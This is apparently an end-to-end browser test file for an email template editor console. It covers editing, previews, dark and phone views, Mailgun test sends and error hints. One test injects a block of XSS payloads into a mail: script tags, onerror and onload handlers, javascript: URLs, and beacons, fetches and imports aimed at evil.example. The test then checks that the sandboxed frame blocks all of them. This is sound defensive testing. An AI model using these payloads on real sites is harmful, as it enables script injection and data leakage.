// Editing mails, and looking at them without letting anything in them run.

import assert from 'node:assert/strict';
import { copyFile } from 'node:fs/promises';
import { after, before, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { eventually, launch, mailFrame, open, screenshot, typeInto } from './browser.js';
import { api, sample, startDemo, startService } from './service.js';

const readmeImage = ['artifacts/console-readme.png', 'docs/console.png'].map((path) => fileURLToPath(new URL(`../../../${path}`, import.meta.url)));

let browser;
let service;
let demo;
before(async () => { [browser, service, demo] = await Promise.all([launch(), startService(sample), startDemo()]); });
after(async () => { await Promise.all([browser?.close(), service?.stop(), demo?.stop()]); });

test('editing a delivery changes the preview', async () => {
  const page = await open(browser, service.url, { view: 'mails/SignIn' });
  await mailFrame(page).getByText('Hello Ada, your code is 481629.').waitFor();

  await typeInto(page, 'HTML', '<p style="color: rgb(1, 2, 3)">Welcome back, {{user.name}}: <b>{{code}}</b></p><p>{{team.name}}</p>');
  await mailFrame(page).getByText('Welcome back, Ada: 481629').waitFor();
  const colour = await mailFrame(page).locator('p').first().evaluate((p) => getComputedStyle(p).color);
  assert.equal(colour, 'rgb(1, 2, 3)', 'the mail\'s own styles show');
  await page.getByText('{{team.name}}', { exact: true }).first().waitFor();

  const preview = page.getByRole('complementary', { name: 'Preview' });
  await page.getByLabel('Subject', { exact: true }).fill('Your code: {{code}}');
  await preview.getByText('Your code: 481629').waitFor();
  await page.getByLabel('Reply-To').fill('help@example.com');
  await preview.getByText('help@example.com').waitFor();

  await preview.getByText('Sample payload').click();
  await typeInto(page, 'Sample payload', '{"code":"112233","user":{"name":"Bob"},"team":{"name":"Core"}}');
  await mailFrame(page).getByText('Welcome back, Bob: 112233').waitFor();
  await preview.getByRole('tab', { name: 'Plain text' }).click();
  await preview.getByText('Welcome back, Bob: 112233').waitFor();
  await page.finish();
});

const attack = `<script>parent.pwned = 1; fetch('http://evil.example/s')</script>
<img src="http://evil.example/i.png" onerror="parent.pwned = 2">
<svg onload="parent.pwned = 3"></svg>
<iframe src="javascript:parent.pwned = 4"></iframe><iframe srcdoc="<script>top.pwned = 5</script>"></iframe>
<a href="javascript:parent.pwned = 6">code link</a> <a href="http://evil.example/a" ping="http://evil.example/p">plain link</a>
<form action="http://evil.example/f"><button>send form</button></form>
<style>@import url(http://evil.example/c.css); p { background: url(http://evil.example/b.png) }</style>
<link rel="stylesheet" href="http://evil.example/l.css"><link rel="preconnect" href="http://evil.example"><link rel="prefetch" href="http://evil.example/pre">
<meta http-equiv="refresh" content="0;url=http://evil.example/m"><base href="http://evil.example/">
<video src="http://evil.example/v.mp4" autoplay></video><object data="http://evil.example/o"></object>
<p>the end {{{code}}}</p>`;

test('what is in a delivery or a payload does not run, and nothing leaves the origin', async () => {
  const page = await open(browser, service.url, { view: 'mails/SignIn' });
  await typeInto(page, 'HTML', attack);
  await mailFrame(page).getByText('the end 481629').waitFor();
  await page.getByText('Images without https, which are never loaded here').waitFor();

  await page.getByText('Sample payload').click();
  const script = '<script>parent.pwned = 7; top.pwned = 8</script><img src=x onerror="top.pwned = 9">';
  await typeInto(page, 'Sample payload', JSON.stringify({ code: `${script}666` }));
  await mailFrame(page).getByText('the end').getByText('666').waitFor();
  await page.getByLabel('Subject', { exact: true }).fill(`${script} in the subject`);
  await page.getByRole('complementary', { name: 'Preview' }).getByText('in the subject').waitFor(); // as text

  for (const name of ['code link', 'plain link']) await mailFrame(page).getByText(name).click();
  await mailFrame(page).getByText('send form').click();
  await mailFrame(page).getByText('plain link').click({ button: 'middle' });
  await page.waitForTimeout(500); // for what would come late
  assert.equal(await page.evaluate(() => globalThis.pwned), undefined);
  assert.equal(page.url(), `${service.url}/#/mails/SignIn`);
  assert.equal(page.context().pages().length, 1, 'a page was opened');
  await mailFrame(page).getByText('the end').waitFor(); // still there
  await page.finish({ complaints: /Content Security Policy|sandboxed/ }); // the frame's: it blocked what it must
});

// The walls one by one: even what the page would forget to take out must not run.
test('the frame itself runs no script', async () => {
  const page = await open(browser, service.url, { view: 'mails/SignIn' });
  await mailFrame(page).getByText('Hello Ada').waitFor();
  await page.evaluate(() => {
    const { contentDocument: doc } = document.querySelector('iframe');
    const script = doc.createElement('script');
    script.textContent = 'top.pwned = 1';
    doc.body.append(script);
    doc.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="top.pwned = 2"><img src="http://evil.example/x.png">');
    doc.location.href = 'http://evil.example/'; // a navigation
  });
  await page.waitForTimeout(500);
  assert.equal(await page.evaluate(() => globalThis.pwned), undefined);
  await page.finish({ complaints: /Content Security Policy|sandboxed/ });
});

test('light, dark, phone and desktop show the mail as it would be', async () => {
  const page = await open(browser, demo.url, { view: 'mails/SignIn' });
  const body = mailFrame(page).locator('body');
  const background = () => body.evaluate((element) => getComputedStyle(element).backgroundColor);
  await mailFrame(page).getByText('481629', { exact: true }).last().waitFor();
  const light = await background();
  await page.getByRole('radio', { name: 'Dark' }).check();
  await eventually('the dark preview', async () => (await background()) !== light);
  await screenshot(page, 'preview-dark-mail');
  const width = () => body.evaluate((element) => element.ownerDocument.defaultView.innerWidth);
  assert.ok(await width() >= 720, 'desktop is as wide as a mail program');
  await page.getByRole('radio', { name: 'Phone' }).check();
  await eventually('the phone preview', async () => (await width()) === 375);
  await page.finish();
});

test('the README shows this', async () => {
  const page = await open(browser, demo.url, { view: 'mails/SignIn', viewport: { width: 1280, height: 800 } });
  await page.getByRole('button', { name: 'Copy into the config' }).click();
  await page.getByLabel('Subject', { exact: true }).fill('{{code}} is your code for Acme');
  await page.getByRole('complementary', { name: 'Preview' }).getByText('481629 is your code for Acme').waitFor();
  await mailFrame(page).getByText('481629', { exact: true }).last().waitFor();
  await page.getByRole('heading', { name: 'SignIn' }).click(); // the focus out of the field
  await screenshot(page, 'readme');
  if (process.env.UPDATE_SCREENSHOT) await copyFile(...readmeImage);
  await page.finish();
});

test('a large mail, a Mailgun template, a type without a mail, a language', async () => {
  const page = await open(browser, service.url, { view: 'mails/SignIn' });
  await typeInto(page, 'HTML', `<p>{{code}}</p><!-- ${'x'.repeat(103 * 1024)} -->`);
  await page.getByText('Gmail cuts messages off at 102 KB').waitFor();

  await page.getByRole('radio', { name: 'Mailgun template' }).check();
  await page.getByLabel(/^Template name/).fill('one-time-code');
  await page.getByText('The template “one-time-code” is stored at Mailgun').waitFor();
  await typeInto(page, 'Variables', '{"product": "Acme"}');
  await page.getByText('"product": "Acme"').last().waitFor();

  await page.getByText('uses Generic').first().waitFor();
  await page.getByRole('button', { name: 'Add Register' }).click();
  await page.getByRole('heading', { name: 'Register' }).waitFor();
  await page.getByRole('button', { name: 'Add language' }).click();
  await page.getByLabel('Language tag').fill('fr');
  await page.keyboard.press('Enter');
  await page.getByRole('tab', { name: 'fr', exact: true }).waitFor();
  await page.getByLabel(/^Subject/).fill('Votre code : {{code}}');
  const preview = page.getByRole('complementary', { name: 'Preview' });
  await preview.getByText('Votre code : 481629').waitFor();
  await preview.getByText('templates/Register/fr').waitFor();
  await page.finish();
});

test('a test send of the unsaved config arrives in the inbox', async () => {
  const page = await open(browser, demo.url, { view: 'mails/Generic' });
  await page.getByRole('button', { name: 'Copy into the config' }).click();
  await page.getByLabel('Subject', { exact: true }).fill('{{code}}, not saved');
  await page.getByLabel('To', { exact: true }).fill('ada@example.org');
  await page.getByRole('button', { name: 'Send test' }).click();
  await page.getByText('Delivered to ada@example.org after').waitFor();
  await page.getByRole('link', { name: 'See it in the inbox' }).click();
  await page.getByRole('link', { name: /481629, not saved/ }).waitFor();
  await mailFrame(page).getByText('481629', { exact: true }).last().waitFor();
  await screenshot(page, 'inbox-test');

  await page.getByRole('link', { name: 'Mails', exact: true }).click();
  await page.getByRole('tab', { name: /Generic/ }).click();
  await page.getByLabel('To', { exact: true }).fill('ada@example.org, eve@example.org');
  await page.getByRole('button', { name: 'Send test' }).click();
  await page.getByText('must not hold white space').waitFor();
  await page.finish();
});

test('a refusal of Mailgun\'s is shown with its hint', async () => {
  await fetch(`${demo.sandbox}/faults`, { method: 'PUT', headers: { 'Content-Type': 'application/json' }, body: '[{"status":401}]' });
  const page = await open(browser, demo.url, { view: 'mails/Generic' });
  await mailFrame(page).getByText('481629', { exact: true }).last().waitFor();
  await page.getByLabel('To', { exact: true }).fill('ada@example.org');
  await page.getByRole('button', { name: 'Send test' }).click();
  await page.getByText(/a wrong API key, the wrong region/).waitFor();
  await page.getByText(/Mailgun answered 401/).waitFor();
  await eventually('the outcome is in sight', () => page.getByText(/Mailgun answered 401/).evaluate((element) => element.getBoundingClientRect().bottom <= innerHeight));
  await screenshot(page, 'test-refused');
  await fetch(`${demo.sandbox}/faults`, { method: 'DELETE' });
  await page.finish();
});

test('the running config is untouched by all that', async () => {
  assert.match(await (await api(service.url, 'GET', '/config')).text(), /is your sign-in code/);
});
